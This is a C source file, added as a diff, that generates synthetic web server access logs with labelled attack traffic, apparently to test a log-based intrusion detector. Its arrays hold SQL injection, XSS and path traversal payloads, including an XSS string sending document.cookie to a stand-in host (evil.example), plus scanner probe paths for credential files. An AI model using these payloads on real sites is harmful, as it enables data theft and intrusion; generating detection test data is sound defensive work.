@@ -1,0 +1,422 @@
+/* Synthetic web access logs (combined format) with ground truth: browsing
+ * visitors who load a page and then its assets, crawlers, uptime monitors
+ * using curl-like tools, normal 404s and the odd 500, a daily rhythm; plus
+ * labelled attacks: vulnerability scanners, SQL injection, XSS and path
+ * traversal probes, and password brute force on the login form.
+ *
+ * Sessions interleave in time: a heap orders every active session (and the
+ * next session arrival) by its next request time, so the file is in time
+ * order as a server writes it. Every attack line gets "LINE,KIND" in the
+ * truth file. Reproducible from the seed. */
+#include "vigil/rng.h"
+#include "vigil/synth.h"
+
+#include <math.h>
+#include <stdio.h>
+#include <string.h>
+#include <time.h>
+
+#define MAX_ACTIVE 4096
+#define DAY 86400.0
+
+enum { K_BROWSE, K_CRAWLER, K_MONITOR, K_SCANNER, K_SQLI, K_XSS, K_TRAVERSAL, K_BRUTE, N_KINDS };
+static const char *const kind_names[N_KINDS] = { "normal", "normal", "normal", "scanner",
+                                                 "sqli", "xss", "traversal", "bruteforce" };
+
+static const char *const browsers[] = {
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
+    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
+    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.0.0",
+};
+static const char *const crawlers[] = {
+    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
+    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
+};
+static const char *const monitors[] = { "curl/7.88.1", "python-requests/2.31.0", "Go-http-client/1.1",
+                                        "UptimeRobot/2.0" };
+static const char *const scanners[] = {
+    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)", "gobuster/3.6", "DirBuster-1.0-RC1",
+    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
+    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+    "Mozilla/5.0 zgrab/0.x", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
+};
+static const char *const brute_agents[] = { "python-requests/2.28.1", "Mozilla/4.0 (Hydra)", "Go-http-client/1.1" };
+static const char *const words[] = { "shoes", "red+dress", "laptop", "men%27s+jacket", "rock+%26+roll", "usb-c",
+                                     "o%27neill", "garden+chair", "kids", "sale", "4k+tv", "coffee" };
+static const char *const categories[] = { "women", "men", "kids", "home", "electronics", "sport", "outlet" };
+static const char *const scan_paths[] = {
+    "/admin", "/admin/", "/administrator/", "/.env", "/.git/config", "/.git/HEAD", "/wp-login.php", "/wp-admin/",
+    "/phpmyadmin/", "/pma/", "/backup.zip", "/backup.sql", "/db.sql", "/config.php.bak", "/config.old",
+    "/server-status", "/.htaccess", "/.htpasswd", "/web.config", "/xmlrpc.php", "/cgi-bin/test.cgi",
+    "/shell.php", "/uploads/", "/.DS_Store", "/api/v1/swagger.json", "/actuator/env", "/console", "/debug",
+    "/test.php", "/info.php", "/phpinfo.php", "/.svn/entries", "/install.php", "/setup/", "/old/", "/temp/",
+    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/solr/admin/", "/jenkins/", "/manager/html",
+    "/.aws/credentials", "/id_rsa", "/dump.tar.gz", "/site.tgz", "/logs/error.log", "/cgi-bin/.%2e/.%2e/bin/sh",
+};
+static const char *const sqli[] = {
+    "1' OR '1'='1", "1 UNION SELECT username,password FROM users--", "1' AND SLEEP(5)--", "1;DROP TABLE users--",
+    "1' AND 1=1--", "1 AND (SELECT COUNT(*) FROM information_schema.tables)>0", "' OR 1=1#", "1' ORDER BY 3--",
+    "-1' UNION ALL SELECT NULL,NULL,@@version--", "admin'--", "1' WAITFOR DELAY '0:0:5'--",
+    "1 AND extractvalue(1,concat(0x7e,version()))", "1') OR ('a'='a", "1 OR pg_sleep(5)--",
+};
+static const char *const xss[] = {
+    "<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>", "javascript:alert(1)",
+    "<svg/onload=alert(1)>", "<iframe src=javascript:alert('xss')>", "<body onload=alert('x')>",
+    "'><script>document.location='http://evil.example/c?'+document.cookie</script>",
+    "<img src=1 onerror=prompt(1)>", "<ScRiPt>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</ScRiPt>",
+};
+static const char *const traversal[] = {
+    "../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/shadow",
+    "....//....//....//etc/passwd", "..\\..\\..\\windows\\win.ini", "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
+    "../../../../proc/self/environ", "/etc/passwd%00.png", "..%5c..%5c..%5cboot.ini",
+    "file:///etc/hosts",
+};
+static const char *const traversal_targets[] = { "/download?file=", "/static/", "/view?page=", "/image?path=" };
+static const char *const injection_targets[] = { "/products?id=", "/search?q=", "/api/items?id=", "/news?article=" };
+static const char *const login_paths[] = { "/login", "/wp-login.php", "/admin/login", "/user/signin" };
+
+typedef struct session {
+    double next;          /* time of the session's next request */
+    int kind, remaining, assets, client;
+    char ip[48];
+    const char *ua;
+    char page[160];       /* the page being viewed: the referer of its assets */
+    int target;           /* attack: which endpoint or login path */
+} session;
+
+typedef struct gen {
+    vg_rng rng;
+    FILE *out, *truth;
+    size_t written, attack_lines, limit;
+    double af, start;
+    session heap[MAX_ACTIVE];
+    size_t n;
+    char (*client_ip)[48];
+    uint8_t *client_ua;
+    size_t n_clients;
+    uint32_t bag[5];
+    size_t bag_n;
+} gen;
+
+#define N(a) (sizeof(a) / sizeof((a)[0]))
+#define PICK(g, a) ((a)[vg_rng_below(&(g)->rng, (uint32_t)N(a))])
+
+static double expo(gen *g, double mean)
+{
+    return -mean * log(1.0 - vg_rng_uniform(&g->rng));
+}
+
+static double uni(gen *g, double lo, double hi)
+{
+    return lo + (hi - lo) * vg_rng_uniform(&g->rng);
+}
+
+static int chance(gen *g, double p)
+{
+    return vg_rng_uniform(&g->rng) < p;
+}
+
+/* A public-looking address: IPv4 outside the private and reserved blocks,
+ * or one in 10 from IPv6 global unicast space. */
+static void random_ip(gen *g, char *buf, size_t cap)
+{
+    if (chance(g, 0.1)) {
+        snprintf(buf, cap, "2a0%x:%x:%x:%x::%x", vg_rng_below(&g->rng, 16), vg_rng_below(&g->rng, 65536),
+                 vg_rng_below(&g->rng, 65536), vg_rng_below(&g->rng, 65536), 1 + vg_rng_below(&g->rng, 65535));
+        return;
+    }
+    unsigned a;
+    do a = 1 + vg_rng_below(&g->rng, 223);
+    while (a == 10 || a == 127 || a == 100 || a == 169 || a == 172 || a == 192 || a == 198 || a == 203);
+    snprintf(buf, cap, "%u.%u.%u.%u", a, vg_rng_below(&g->rng, 256), vg_rng_below(&g->rng, 256),
+             1 + vg_rng_below(&g->rng, 254));
+}
+
+static void heap_push(gen *g, const session *s)
+{
+    size_t i = g->n++;
+    g->heap[i] = *s;
+    while (i > 0 && g->heap[(i - 1) / 2].next > g->heap[i].next) {
+        session t = g->heap[i];
+        g->heap[i] = g->heap[(i - 1) / 2];
+        g->heap[(i - 1) / 2] = t;
+        i = (i - 1) / 2;
+    }
+}
+
+static void heap_sift(gen *g)
+{
+    size_t i = 0;
+    for (;;) {
+        size_t l = 2 * i + 1, r = l + 1, m = i;
+        if (l < g->n && g->heap[l].next < g->heap[m].next) m = l;
+        if (r < g->n && g->heap[r].next < g->heap[m].next) m = r;
+        if (m == i) return;
+        session t = g->heap[i];
+        g->heap[i] = g->heap[m];
+        g->heap[m] = t;
+        i = m;
+    }
+}
+
+/* Percent-encode an attack payload the way clients send it: spaces always
+ * encoded, and either only the characters a browser must encode or all
+ * punctuation (tools differ). */
+static void encode(gen *g, const char *p, char *buf, size_t cap)
+{
+    int all = chance(g, 0.4), plus = chance(g, 0.3);
+    size_t w = 0;
+    for (; *p && w + 4 < cap; p++) {
+        unsigned char c = (unsigned char)*p;
+        int alnum = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9');
+        if (c == ' ' && plus) buf[w++] = '+';
+        else if (c != '%' && (c == ' ' || c == '"' || c == '#' || c == '\\' ||
+                              (all && !alnum && c != '/' && c != '.' && c != '-' && c != '_'))) {
+            /* '%' passes through: some payloads arrive already encoded. */
+            w += (size_t)snprintf(buf + w, cap - w, "%%%02X", c);
+        } else {
+            buf[w++] = (char)c;
+        }
+    }
+    buf[w] = '\0';
+}
+
+static void emit(gen *g, const session *s, const char *method, const char *uri, int status, unsigned bytes,
+                 const char *referer)
+{
+    time_t t = (time_t)s->next;
+    struct tm tm;
+    gmtime_r(&t, &tm);
+    char when[40];
+    strftime(when, sizeof when, "%d/%b/%Y:%H:%M:%S +0000", &tm);
+    g->written++;
+    fprintf(g->out, "%s - - [%s] \"%s %s HTTP/1.1\" %d %u \"%s\" \"%s\"\n", s->ip, when, method, uri, status, bytes,
+            referer ? referer : "-", s->ua ? s->ua : "-");
+    if (s->kind >= K_SCANNER) {
+        g->attack_lines++;
+        if (g->truth) fprintf(g->truth, "%zu,%s\n", g->written, kind_names[s->kind]);
+    }
+}
+
+static void new_page(gen *g, session *s)
+{
+    unsigned r = vg_rng_below(&g->rng, 100);
+    if (r < 15) snprintf(s->page, sizeof s->page, "/");
+    else if (r < 40) snprintf(s->page, sizeof s->page, "/products/%u", 1000 + vg_rng_below(&g->rng, 5000));
+    else if (r < 55) snprintf(s->page, sizeof s->page, "/category/%s", PICK(g, categories));
+    else if (r < 67) snprintf(s->page, sizeof s->page, "/search?q=%s&page=%u", PICK(g, words), 1 + vg_rng_below(&g->rng, 4));
+    else if (r < 77) snprintf(s->page, sizeof s->page, "/blog/2025/%u/post-%u", 1 + vg_rng_below(&g->rng, 12), vg_rng_below(&g->rng, 300));
+    else if (r < 84) snprintf(s->page, sizeof s->page, "/api/items?id=%u&fields=name,price", vg_rng_below(&g->rng, 9000));
+    else if (r < 90) snprintf(s->page, sizeof s->page, "/cart");
+    else if (r < 94) snprintf(s->page, sizeof s->page, "/account");
+    else if (r < 97) snprintf(s->page, sizeof s->page, "/about");
+    else snprintf(s->page, sizeof s->page, "/login");
+}
+
+/* One request of session s; returns 0 when the session is over. */
+static int step(gen *g, session *s)
+{
+    char uri[512], ref[200], payload[400];
+    int st;
+    switch (s->kind) {
+    case K_BROWSE:
+        if (s->assets > 0) {
+            static const char *const assets[] = { "/static/css/main.4f2a.css", "/static/js/app.91c3.js",
+                                                  "/static/js/vendor.77de.js", "/images/logo.svg",
+                                                  "/fonts/inter.woff2" };
+            int missing = s->assets == 1 && chance(g, 0.08);
+            if (missing) snprintf(uri, sizeof uri, "%s", chance(g, 0.5) ? "/favicon.ico" : "/apple-touch-icon.png");
+            else if (chance(g, 0.4)) snprintf(uri, sizeof uri, "/images/p%u.jpg", vg_rng_below(&g->rng, 5000));
+            else snprintf(uri, sizeof uri, "%s", PICK(g, assets));
+            snprintf(ref, sizeof ref, "https://shop.example.com%s", s->page);
+            st = missing ? 404 : chance(g, 0.3) ? 304 : 200;
+            emit(g, s, "GET", uri, st, st == 200 ? 2000 + vg_rng_below(&g->rng, 80000) : st == 404 ? 153 : 0, ref);
+            s->assets--;
+            s->next += uni(g, 0.02, 0.6);
+            if (s->assets == 0) s->next += expo(g, 25);  /* reading the page */
+            return 1;
+        }
+        if (s->remaining-- <= 0) return 0;
+        snprintf(ref, sizeof ref, "https://shop.example.com%s", s->page);
+        new_page(g, s);
+        if (strcmp(s->page, "/login") == 0 && chance(g, 0.6)) {
+            /* A real login: sometimes a typo first. */
+            int typo = chance(g, 0.2);
+            emit(g, s, "POST", "/login", typo ? 401 : 302, typo ? 1840 : 0, ref);
+            s->next += uni(g, 2, 8);
+            return 1;
+        }
+        st = chance(g, 0.01) ? 404 : chance(g, 0.003) ? 500 : 200;
+        /* The first page comes from a search engine or a bookmark. */
+        const char *from = s->target++ ? ref : chance(g, 0.5) ? "https://www.google.com/" : NULL;
+        emit(g, s, "GET", s->page, st, st == 200 ? 8000 + vg_rng_below(&g->rng, 60000) : 512, from);
+        s->assets = st == 200 ? 1 + (int)vg_rng_below(&g->rng, 6) : 0;
+        s->next += uni(g, 0.05, 0.3);
+        if (s->assets == 0) s->next += expo(g, 25);  /* think time; else it follows the assets */
+        return 1;
+    case K_CRAWLER:
+        if (s->remaining-- <= 0) return 0;
+        new_page(g, s);
+        st = 200;
+        if (chance(g, 0.05)) {  /* a stale link to a product gone */
+            snprintf(s->page, sizeof s->page, "/products/%u", 90000 + vg_rng_below(&g->rng, 999));
+            st = 404;
+        }
+        emit(g, s, "GET", s->remaining == 0 ? "/robots.txt" : s->page, st, 5000 + vg_rng_below(&g->rng, 40000), NULL);
+        s->next += uni(g, 1, 8);
+        return 1;
+    case K_MONITOR:
+        if (s->remaining-- <= 0) return 0;
+        emit(g, s, "GET", s->target ? "/api/status" : "/health", 200, 42, NULL);
+        s->next += uni(g, 29, 31);
+        return 1;
+    case K_SCANNER:
+        if (s->remaining-- <= 0) return 0;
+        snprintf(uri, sizeof uri, "%s", PICK(g, scan_paths));
+        st = chance(g, 0.85) ? 404 : chance(g, 0.5) ? 403 : chance(g, 0.7) ? 200 : 301;
+        emit(g, s, chance(g, 0.9) ? "GET" : "HEAD", uri, st, st == 404 ? 153 + vg_rng_below(&g->rng, 40) : 300, NULL);
+        s->next += uni(g, 0.02, 0.3);
+        return 1;
+    case K_SQLI:
+    case K_XSS:
+    case K_TRAVERSAL: {
+        if (s->remaining-- <= 0) return 0;
+        /* Probes are interleaved with ordinary requests to the same site,
+         * but only the probes themselves are labelled as attacks. */
+        const char *p = s->kind == K_SQLI ? PICK(g, sqli) : s->kind == K_XSS ? PICK(g, xss) : PICK(g, traversal);
+        encode(g, p, payload, sizeof payload);
+        const char *base = s->kind == K_TRAVERSAL ? traversal_targets[s->target % N(traversal_targets)]
+                                                  : injection_targets[s->target % N(injection_targets)];
+        snprintf(uri, sizeof uri, "%s%s", base, payload);
+        st = s->kind == K_SQLI ? (chance(g, 0.3) ? 500 : chance(g, 0.15) ? 403 : 200)
+           : s->kind == K_XSS ? (chance(g, 0.1) ? 403 : 200)
+                              : (chance(g, 0.4) ? 400 : chance(g, 0.5) ? 404 : chance(g, 0.5) ? 403 : 200);
+        emit(g, s, "GET", uri, st, st == 200 ? 3000 + vg_rng_below(&g->rng, 20000) : 300 + vg_rng_below(&g->rng, 200),
+             chance(g, 0.3) ? "https://shop.example.com/" : NULL);
+        s->next += strstr(s->ua, "sqlmap") ? uni(g, 0.05, 0.5) : uni(g, 0.5, 6);
+        return 1;
+    }
+    case K_BRUTE:
+        if (s->remaining-- <= 0) return 0;
+        st = s->remaining == 0 && chance(g, 0.3) ? 302 : 401;
+        snprintf(ref, sizeof ref, "https://shop.example.com%s", login_paths[s->target % N(login_paths)]);
+        emit(g, s, "POST", login_paths[s->target % N(login_paths)], st, st == 401 ? 1840 : 0, chance(g, 0.5) ? ref : NULL);
+        s->next += uni(g, 0.1, 1.5);
+        return 1;
+    }
+    return 0;
+}
+
+/* Sessions per second at time t: a daily rhythm peaking mid-afternoon UTC. */
+static double arrival_rate(const gen *g, double t)
+{
+    double hour = fmod(t - g->start, DAY) / 3600.0;
+    double base = (double)g->limit / (DAY * 14.0);  /* ~14 lines per session on average */
+    return base * (1.0 + 0.6 * sin(2.0 * M_PI * (hour - 9.0) / 24.0));
+}
+
+static void start_session(gen *g, double t)
+{
+    session s;
+    memset(&s, 0, sizeof s);
+    s.next = t;
+    /* Attack sessions are long (~50 lines): start them rarely, steering the
+     * running attack share towards the requested fraction. */
+    double share = g->written ? (double)g->attack_lines / (double)g->written : 0;
+    double p_attack = g->af <= 0 ? 0 : share < g->af ? g->af * 0.3 : g->af * 0.02;
+    if (chance(g, p_attack)) {
+        /* Kinds drawn from a shuffled bag of all five, so even a short log
+         * holds every kind. */
+        if (g->bag_n == 0) {
+            for (uint32_t k = 0; k < 5; k++) g->bag[k] = K_SCANNER + k;
+            vg_rng_shuffle_u32(&g->rng, g->bag, 5);
+            g->bag_n = 5;
+        }
+        s.kind = (int)g->bag[--g->bag_n];
+        random_ip(g, s.ip, sizeof s.ip);
+        s.target = (int)vg_rng_below(&g->rng, 16);
+        switch (s.kind) {
+        case K_SCANNER:
+            s.ua = chance(g, 0.7) ? PICK(g, scanners) : PICK(g, browsers);
+            s.remaining = 20 + (int)vg_rng_below(&g->rng, 120);
+            break;
+        case K_SQLI:
+            s.ua = chance(g, 0.4) ? "sqlmap/1.7.2#stable (https://sqlmap.org)" : PICK(g, browsers);
+            s.remaining = 8 + (int)vg_rng_below(&g->rng, 40);
+            break;
+        case K_XSS:
+        case K_TRAVERSAL:
+            s.ua = chance(g, 0.2) ? "python-requests/2.31.0" : PICK(g, browsers);
+            s.remaining = 8 + (int)vg_rng_below(&g->rng, 40);
+            break;
+        default:
+            s.ua = chance(g, 0.6) ? PICK(g, brute_agents) : PICK(g, browsers);
+            s.remaining = 30 + (int)vg_rng_below(&g->rng, 120);
+            break;
+        }
+    } else {
+        unsigned r = vg_rng_below(&g->rng, 100);
+        s.kind = r < 90 ? K_BROWSE : r < 96 ? K_CRAWLER : K_MONITOR;
+        if (s.kind == K_BROWSE) {
+            /* Returning visitors keep their address and browser. */
+            size_t c = vg_rng_below(&g->rng, (uint32_t)g->n_clients);
+            memcpy(s.ip, g->client_ip[c], sizeof s.ip);
+            s.ua = browsers[g->client_ua[c]];
+            s.remaining = 1 + (int)vg_rng_below(&g->rng, 6);
+            snprintf(s.page, sizeof s.page, "/");
+        } else if (s.kind == K_CRAWLER) {
+            random_ip(g, s.ip, sizeof s.ip);
+            s.ua = PICK(g, crawlers);
+            s.remaining = 10 + (int)vg_rng_below(&g->rng, 60);
+        } else {
+            random_ip(g, s.ip, sizeof s.ip);
+            s.ua = PICK(g, monitors);
+            s.target = chance(g, 0.5);
+            s.remaining = 10 + (int)vg_rng_below(&g->rng, 30);
+        }
+    }
+    if (g->n < MAX_ACTIVE - 1) heap_push(g, &s);
+}
+
+static vg_status weblog_write(FILE *out, const vg_synth_params *p)
+{
+    if (!out) return vg_fail(VG_ERR_INVALID, "synth weblog: no output");
+    if (!(p->attack_fraction >= 0 && p->attack_fraction < 1))
+        return vg_fail(VG_ERR_INVALID, "synth weblog: attack fraction %g is not in [0, 1)", p->attack_fraction);
+    gen *g = vg_calloc(1, sizeof *g);
+    if (!g) return vg_fail(VG_ERR_NOMEM, "out of memory");
+    vg_rng_seed(&g->rng, p->seed, 0x776562);
+    g->out = out, g->truth = p->truth, g->limit = p->events, g->af = p->attack_fraction, g->start = p->start_time;
+    g->n_clients = VG_MAX((size_t)50, p->events / 30);
+    g->client_ip = vg_malloc(g->n_clients * sizeof *g->client_ip);
+    g->client_ua = vg_malloc(g->n_clients);
+    if (!g->client_ip || !g->client_ua) {
+        vg_free(g->client_ip), vg_free(g->client_ua), vg_free(g);
+        return vg_fail(VG_ERR_NOMEM, "out of memory");
+    }
+    for (size_t i = 0; i < g->n_clients; i++) {
+        random_ip(g, g->client_ip[i], sizeof g->client_ip[i]);
+        g->client_ua[i] = (uint8_t)vg_rng_below(&g->rng, (uint32_t)N(browsers));
+    }
+    double next_arrival = p->start_time;
+    while (g->written < g->limit) {
+        if (g->n == 0 || next_arrival <= g->heap[0].next) {
+            start_session(g, next_arrival);
+            next_arrival += expo(g, 1.0 / arrival_rate(g, next_arrival));
+            continue;
+        }
+        session *s = &g->heap[0];
+        if (!step(g, s)) g->heap[0] = g->heap[--g->n];
+        heap_sift(g);
+    }
+    vg_status st = ferror(out) || (g->truth && ferror(g->truth)) ? vg_fail(VG_ERR_IO, "synth weblog: write failed")
+                                                                  : VG_OK;
+    vg_free(g->client_ip), vg_free(g->client_ua), vg_free(g);
+    return st;
+}
+
+const vg_synth_generator vg_synth_weblog = { .format = "weblog", .write = weblog_write };
